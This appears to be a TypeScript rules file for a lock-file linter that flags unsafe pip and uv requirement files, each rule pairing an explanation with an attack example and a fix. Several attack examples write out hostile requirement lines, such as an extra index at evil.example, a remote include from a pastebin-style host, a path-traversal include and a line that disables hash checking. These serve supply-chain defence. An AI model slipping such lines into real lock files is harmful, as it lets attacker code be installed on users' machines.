import type { Area } from "./area.ts";

/** A lock has to fix every byte that is installed, whatever pip's options would allow. */
export const LOCK_PINS: Area<
  | `LOCK_OPTION_${string}`
  | `LOCK_HASH_${string}`
  | `LOCK_INCLUDE_${string}`
  | "LOCK_NOT_PINNED"
  | "LOCK_MARKER"
  | "LOCK_DIRECT_REFERENCE"
  | "LOCK_EDITABLE"
  | "LOCK_DUPLICATE"
  | "LOCK_DUPLICATE_LINE"
  | "LOCK_CONSTRAINT"
  | "REQUIREMENT_MALFORMED"
  | "PIP_OPTION_MALFORMED"
  | "VERSION_MALFORMED"
> = {
  title: "Locks: pins, hashes and options",
  about: "A lock has to fix every byte that is installed, whatever pip's options would allow.",
  rules: {
    LOCK_OPTION_ABBREVIATED: {
      what: "An option is written short, and only pip completes it.",
      why: "pip's option parser takes `--req` for `--requirement`; uv and every scanner that looks for the whole word pass over it.",
      attack:
        "`--extra-index https://evil.example` adds an index for pip that a search for `--extra-index-url` does not find.",
      fix: "Write the option in full; `lockseal lint --fix requirements.txt` does it.",
    },
    LOCK_OPTION_UNKNOWN: {
      what: "No tool knows the option, or only one of pip and uv does.",
      why: "The one that does not know it stops or reads on without it.",
      attack:
        "A `--config-settings` behind a requirement changes how pip builds it, in a file that everybody takes for a list of pins.",
      fix: "Take it out, or give it on the command line of the one tool.",
    },
    LOCK_OPTION_FORBIDDEN: {
      what: "The option lets something be installed that the lock does not fix.",
      why: "`--no-require-hashes` switches hash checking off for the whole file since pip 26.2; `--no-binary` and `--only-binary :none:` beat what stands on the command line, so that code is built, and runs.",
      attack:
        "A pull request adds the one line `--no-require-hashes`, and every hash in the file becomes decoration.",
      fix: "Delete the line; lock a wheel with its hash in place of what has to be built.",
    },
    LOCK_OPTION_SPELLING: {
      what: "pip and uv read the value of the option differently, or one of them reads none.",
      why: "`-i=URL`, quotes, a second value on the line or an index that is no URL mean different things to the two parsers.",
      attack:
        "An index address that pip takes from the lock and uv does not sends one lock to two places.",
      fix: "Write `--name VALUE` in the long form, one option a line, the value without quotes.",
    },
    LOCK_HASH_MISSING: {
      what: "A requirement has no hash.",
      why: "Without it pip installs whatever its index hands out under that name and version.",
      attack:
        "An index, a mirror or a proxy serves a changed wheel, for one customer and one hour.",
      fix: "Make the lock with hashes: `uv pip compile --generate-hashes requirements.in -o requirements.txt`, or `pip-compile --generate-hashes`.",
    },
    LOCK_HASH_MALFORMED: {
      what: "The digest after `--hash` is no lower-case hex of its algorithm's length.",
      why: "Old versions of pip take upper-case digits for another digest, and a digest that was cut short matches nothing.",
      accident:
        "A hash that was copied by hand lacks its last digit; the install fails on the one machine whose cache is cold.",
      fix: "Write `--hash=sha256:` and 64 hex digits; `lockseal lint --fix requirements.txt` turns upper case into lower.",
    },
    LOCK_HASH_ALGORITHM: {
      what: "The hash is by another algorithm than SHA-256, SHA-384 or SHA-512.",
      why: "Two files with one MD5 or SHA-1 can be made in minutes to days.",
      attack:
        "An attacker publishes a harmless wheel and keeps its malicious twin of equal MD5 for later.",
      fix: "Make the lock anew with SHA-256; only the case of the name can be mended: `lockseal lint --fix requirements.txt`.",
    },
    LOCK_HASH_ORPHAN: {
      what: "A hash stands on a line that belongs to no requirement.",
      why: "pip ignores it, so that nothing is checked against it though it looks so.",
      attack:
        "A backslash is taken out of the diff, hardly visible, and the requirement above loses its hashes.",
      fix: "End the line before with a space and a backslash, or delete the hash.",
    },
    LOCK_HASH_CONFLICT: {
      what: "The hash in the URL of a reference is none of those after `--hash`.",
      why: "pip accepts a file that fits either of the two.",
      attack:
        "The reviewed `--hash` stays as it is, and `#sha256=` in the URL lets another file in.",
      fix: "Take the fragment out of the URL and keep `--hash`.",
    },
    LOCK_INCLUDE_REMOTE: {
      what: "An included file comes from the network.",
      why: "Nobody signed it, and it may say something else at the next install.",
      attack: "`-r https://pastebin.example/r.txt` in a lock that is otherwise perfect.",
      fix: "Download the file, review it, commit it, and include that.",
    },
    LOCK_INCLUDE_LOOP: {
      what: "A file includes itself, perhaps by way of others.",
      why: "pip and uv end such loops at different places, or not at all.",
      accident:
        "Two requirement files that were split by hand include each other, and the last edit closes the circle.",
      fix: "Take one of the includes out; the message shows the whole circle.",
    },
    LOCK_INCLUDE_OUTSIDE: {
      what: "An included file lies outside of the root, or its path takes a detour.",
      why: "Only what is below the root is signed with the lock.",
      attack: "`-r ../../tmp/r.txt` reads what another job left on a shared runner.",
      fix: "Move the file under the root, or set a wider one where it is signed and verified: `lockseal lint --root DIR requirements.txt`.",
    },
    LOCK_INCLUDE_UNREADABLE: {
      what: "An included file cannot be read.",
      why: "What it would add is unknown, and unknown is not locked.",
      accident: "The file was renamed and the include was not, or it is missing from the commit.",
      fix: "Mend the path, which is relative to the file that includes it, and commit the file: `git add FILE`.",
    },
    LOCK_INCLUDE_IN_CONSTRAINT: {
      what: "A constraint file includes requirements with `-r`.",
      why: "pip then installs what is named there, though constraints are said to install nothing.",
      attack: "A line in a file called `constraints.txt`, which reviewers skim, adds a package.",
      fix: "Include the file with `-r` from the lock itself.",
    },
    LOCK_NOT_PINNED: {
      what: "A requirement is not exactly one version by `==`.",
      why: "Since 26.1 pip no longer insists on `==` beside hashes, so a range with several hashes installs the newest that fits.",
      attack:
        "A lock with `requests>=2` and the hashes of two versions lets the index choose the vulnerable one.",
      fix: "Pin the version that is meant, or make the lock anew: `uv pip compile --generate-hashes requirements.in -o requirements.txt`.",
    },
    LOCK_MARKER: {
      what: "pip and uv do not evaluate the marker alike, or one of them refuses it.",
      why: "A requirement that applies for one tool only is not reviewed for the other.",
      attack:
        "A marker that is false for the scanner's uv and true for production's pip installs a package only where nobody looks.",
      fix: 'Compare one variable with one literal a time: `python_version >= "3.9"`, `sys_platform == "linux"`.',
    },
    LOCK_DIRECT_REFERENCE: {
      what: "A direct reference does not lead to one wheel with a hash.",
      why: "A repository, a folder or a source archive is built when it is installed, and building runs code that no hash fixes.",
      attack:
        "`app @ git+https://…@main` follows the branch wherever its owner, or whoever took their account, moves it.",
      fix: "Build a wheel once and lock it: `pip wheel --no-deps -w wheels PATH`; or pin a released version.",
    },
    LOCK_EDITABLE: {
      what: "An editable install stands in the lock.",
      why: "It is a folder, and a folder has no single file to hash.",
      accident:
        "The line that is useful in development reaches the lock of the release and installs whatever lies in the checkout.",
      fix: "Build a wheel and lock that; with uv, export without it: `uv export --no-emit-project`.",
    },
    LOCK_DUPLICATE: {
      what: "A package is locked twice, differently, and both lines may apply.",
      why: "pip and uv choose by different rules, or stop.",
      attack:
        "The second, later line of a long lock silently wins with an older version of the package.",
      fix: "Keep one of the lines, or give them markers that exclude each other.",
    },
    LOCK_DUPLICATE_LINE: {
      what: "A package is locked twice in the same way.",
      why: "It changes nothing today; whoever updates one of the lines makes a contradiction of it.",
      accident: "Two lists were put together, and both had the package.",
      fix: "Take one of the two lines out.",
    },
    LOCK_CONSTRAINT: {
      what: "A constraint disagrees with the lock, or is not `name==version`.",
      why: "pip applies constraints to what is locked, so that a wrong one changes or breaks the install.",
      attack: "A constraint file that nobody counts as part of the lock forces an older version.",
      fix: "Make the constraint equal to the lock, or delete it.",
    },
    REQUIREMENT_MALFORMED: {
      what: "A text is no requirement or marker of PEP 508; the message has the reason that pip gives.",
      why: "The pip view of a lock records where pip would stop, and that record is one of the two readings.",
      accident: "Code that calls the library with a requirement that a person typed.",
      fix: "Correct the text at the offset that is named; in a lock, see `lockseal lint requirements.txt`.",
    },
    PIP_OPTION_MALFORMED: {
      what: "The options of a line are not what pip's own parser accepts.",
      why: "pip ends with an error there, and with it the install.",
      accident: "An option lacks its value, or a quote is never closed.",
      fix: "Write the options as `pip install --help` shows them.",
    },
    VERSION_MALFORMED: {
      what: "A text is no version, or no version specifier, of PEP 440.",
      why: "Versions are compared by that rule alone; a comparison of anything else would be a guess.",
      accident: "`v1.0-final` from a Git tag was used where `1.0` is the version.",
      fix: "Write it as the package's index does.",
    },
  },
};
